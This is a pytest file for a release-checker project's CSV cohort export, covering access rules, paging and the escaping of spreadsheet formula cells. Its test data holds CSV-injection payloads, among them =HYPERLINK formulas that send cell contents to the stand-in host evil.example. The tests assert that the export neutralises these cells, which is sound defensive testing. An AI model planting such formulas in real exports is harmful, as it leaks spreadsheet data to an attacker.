# SPDX-FileCopyrightText: 2026 release-checker contributors
# SPDX-License-Identifier: Apache-2.0

"""The cohort for spreadsheets: who gets it, what is in it, and that nothing in it is computed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select, update

from release_checker.cohort.export import exported, safe, write_csv
from release_checker.cohort.overview import standings
from release_checker.cohort.store.queries import PAGE, Asker, Wanted
from release_checker.cohort.store.tables import Assignment, Attempt, Cohort, Person, Project
from tests.board.conftest import Board
from tests.board.programs import PEOPLE, populate, program

HERE = "/c/2026/export.csv"


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_what_a_spreadsheet_reads(board: Board, tmp_path: Path) -> None:
    _, new = populate(board, tmp_path)
    answer = board.as_("vera").get(HERE)
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="2026.csv"'
    names = ("project", "decision", "blockers", "LIC", "digest")
    assert [tuple(row[name] for name in names) for row in table(answer.content)] == [
        ("alpha", "ready", "0", "pass", new), ("beta", "", "0", "", "")]


def test_the_verdict_of_the_page_and_who_has_to_do_with_it(board: Board, tmp_path: Path) -> None:
    populate(board, tmp_path)
    with board.database.session() as session:
        alpha, mira, vera = (session.scalars(wanted).one() for wanted in (
            select(Project).where(Project.name == "alpha"), select(Person).where(Person.login == "mira"),
            select(Person).where(Person.login == "vera")))
        session.add_all(Assignment(project_id=alpha.id, person_id=person.id) for person in (mira, vera))
        session.add_all([Attempt(project_id=alpha.id, key="old", state="done", audit_id=alpha.latest_id),
                         Attempt(project_id=alpha.id, key="new", state="failed")])
        vera.name = ""
    names = ("project", "decision", "standing", "scholars", "mentors")
    found = [tuple(row[name] for name in names) for row in table(board.as_("mira").get(HERE).content)]
    assert found == [("alpha", "ready", "stale", "Sam", "Mira, vera"), ("beta", "", "none", "", "")]


def test_filters_and_order_of_the_page_hold(board: Board, tmp_path: Path) -> None:
    populate(board, tmp_path)
    client = board.as_("mira")
    assert [row["project"] for row in table(client.get(f"{HERE}?decision=none").content)] == ["beta"]
    assert [row["project"] for row in table(client.get(f"{HERE}?down=1").content)] == ["beta", "alpha"]
    assert table(client.get(f"{HERE}?search=nothing").content) == []


def test_who_gets_it(board: Board, tmp_path: Path) -> None:
    populate(board, tmp_path)
    assert {login: program(board, login).get(HERE).status_code for login in PEOPLE} == {
        "root": 200, "mira": 200, "vera": 200, "sam": 403, "eve": 404}


def test_more_projects_than_a_page(board: Board) -> None:
    names = [f"p{number:03}" for number in range(2 * PAGE + 7)]
    with board.database.session() as session:
        session.add(Cohort(id=1, name="big"))
        session.flush()
        session.add_all(Project(cohort_id=1, name=name, source="/x") for name in names)
    with board.database.session() as session:
        assert [row.project for row in exported(session, 1, Asker(1))] == names
        assert [row.project for row in exported(session, 1, Asker(1), Wanted(down=True, page=2))] == names[::-1]


def test_command_and_board_write_the_same(board: Board, tmp_path: Path) -> None:
    populate(board, tmp_path)
    assert board.as_("vera").get(HERE).content.decode() == write_csv(standings(board.database, "2026"))


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("  =1", "'  =1"), ("\t=1", "\\t=1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("a;=cmd()", "a;'=cmd()"), ("a; =cmd()", "a;' =cmd()"), ("a|@x", "a|'@x"),
    ('a;"=cmd();"', "a;'\"=cmd();\""), ("a;'=cmd()", "a;''=cmd()"), ('a; "" =1', "a;' \"\" =1"), ('"-1"', "'\"-1\""),
    ("a=b", "a=b"), ("x-y + z@w", "x-y + z@w"), ("", ""), ("\x1b[31m", "\\x1b[31m")])
def test_nothing_is_computed(text: str, expected: str) -> None:
    assert safe(text) == expected


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_however_the_file_is_split(board: Board, tmp_path: Path, separator: str) -> None:
    populate(board, tmp_path)
    bad = "no license;\"=HYPERLINK('http://evil.example/'&A1;'open');\""
    with board.database.session() as session:
        session.execute(update(Project).values(title=bad, problem=f'x|"{bad}'))
    text = board.as_("vera").get(HERE).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    assert "HYPERLINK" in text
    assert [cell for cell in cells if cell.lstrip("\"' ")[:1] in set("=+-@") and not cell.startswith("'")] == []


def test_formulas_in_every_field(board: Board, tmp_path: Path) -> None:
    populate(board, tmp_path)
    bad = '=HYPERLINK("http://evil.example/?"&A1)'
    with board.database.session() as session:
        session.execute(update(Project).values(title=bad, problem=f'x";{bad}', source=bad, ref=bad))
    found = table(board.as_("vera").get(HERE).content)
    assert len(found) == 2
    for row in found:
        assert [value for value in row.values() if value[:1] in set("=+-@")] == []
        assert row["title"] == f"'{bad}"
        assert row["problem"] == f"x\";'{bad}"
